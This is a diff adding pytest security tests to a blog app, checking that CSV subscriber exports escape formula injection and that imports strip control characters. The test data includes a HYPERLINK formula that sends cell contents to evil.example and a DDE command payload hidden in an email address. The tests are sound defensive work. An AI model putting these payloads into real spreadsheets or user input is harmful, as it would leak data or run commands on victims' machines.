@@ -1,8 +1,12 @@
 """Input an attacker (or a careless client) sends: each answers as a user expects, never a 500."""
 
+import csv
+import io
+import json
 from datetime import UTC, datetime, timedelta
 
 import pytest
+import sqlalchemy as sa
 from helpers import AUTHOR_PASSWORD, add_post, admin_post, submit
 
 from blog.extensions import db
@@ -63,3 +67,87 @@ def test_signing_out_ends_the_session_and_the_remember_cookie(app, client, autho
         replay.set_cookie(name, value)
         answer = replay.get("/admin/")
         assert answer.status_code == 302 and "/admin/sign-in" in answer.location, name
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_csv_exports_never_hold_a_live_formula_and_reimport_reads_them_back(app, admin, runner, tmp_path):
+    """A visitor controls their address and their browser's User-Agent; both reach the export."""
+    from blog.models import Subscriber
+
+    address = "=cmd|'/Ccalc'!A0@example.com"
+    with app.app_context():
+        for number, formula in enumerate(FORMULAS):
+            email = f"reader{number}@example.com"
+            db.session.add(Subscriber(email=email, email_key=email, consent_user_agent=formula))
+        db.session.add(Subscriber(email=address, email_key=address, consent_user_agent="Firefox"))
+        db.session.commit()
+    exported = runner.invoke(args=["subscribers", "export"])
+    assert exported.exit_code == 0, exported.output
+    downloaded = admin.get("/admin/subscribers/export.csv")
+    assert downloaded.status_code == 200
+    for text in (exported.stdout, downloaded.text):
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        cells = [cell for row in rows for cell in row.values()]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        agents = sorted(row["consent_user_agent"] for row in rows)
+        assert agents == sorted(["Firefox"] + ["'" + formula for formula in FORMULAS])
+    path = tmp_path / "export.csv"
+    path.write_text(exported.stdout, encoding="utf-8")
+    with app.app_context():
+        db.session.execute(sa.delete(Subscriber))
+        db.session.commit()
+    reimported = runner.invoke(args=["subscribers", "import", str(path)])
+    assert reimported.exit_code == 0 and "Added 7" in reimported.output, reimported.output
+    with app.app_context():
+        assert (
+            db.session.scalar(sa.select(Subscriber.email).where(Subscriber.email_key == address.lower()))
+            == address
+        )
+
+
+CONTROL_POST = """---
+title: "Form\\ffeed"
+tags: ["ok", "bad\\u0001tag"]
+excerpt: "Line\\u000bbreak"
+---
+A body with a form feed in code: `a\fb`.
+"""
+
+
+def test_control_characters_are_stripped_on_import_with_a_warning(client, write_post, runner):
+    result = runner.invoke(args=["import", "--json", str(write_post("control.md", CONTROL_POST))])
+    assert result.exit_code == 0, result.output
+    [post] = json.loads(result.stdout)["posts"]
+    assert (post["title"], post["tags"]) == ("Formfeed", ["ok", "badtag"])
+    assert any("control character" in warning for warning in post["warnings"])
+    for path in ("/feed.xml", "/atom.xml", "/feed.json", "/tags/badtag/feed.xml", "/posts/control/"):
+        assert client.get(path).status_code == 200, path
+
+
+def test_feeds_stay_well_formed_whatever_a_stored_post_holds(app, client):
+    with app.app_context():
+        add_post("Old\fimport", NOW - timedelta(days=1), tags=("rust",))
+        db.session.commit()
+    for path in ("/feed.xml", "/atom.xml", "/feed.json", "/tags/rust/feed.xml"):
+        answer = client.get(path)
+        assert answer.status_code == 200 and "\f" not in answer.text, path
+    assert "Oldimport" in client.get("/feed.xml").text
+
+
+def test_control_characters_typed_in_the_editor_are_stripped_with_a_warning(app, admin):
+    from blog.models import Post
+
+    answer = admin_post(
+        admin,
+        "/admin/posts/new",
+        {"title": "Typed\x07title", "body": "Text.", "tags": "a\x02b", "excerpt": "", "when": "now",
+         "action": "publish"},
+        page="/admin/posts/new",
+    )  # fmt: skip
+    assert answer.status_code == 302
+    with app.app_context():
+        post = db.session.scalar(sa.select(Post))
+        assert (post.title, [tag.name for tag in post.tags]) == ("Typedtitle", ["ab"])
+    assert "control character" in admin.get(answer.location).text
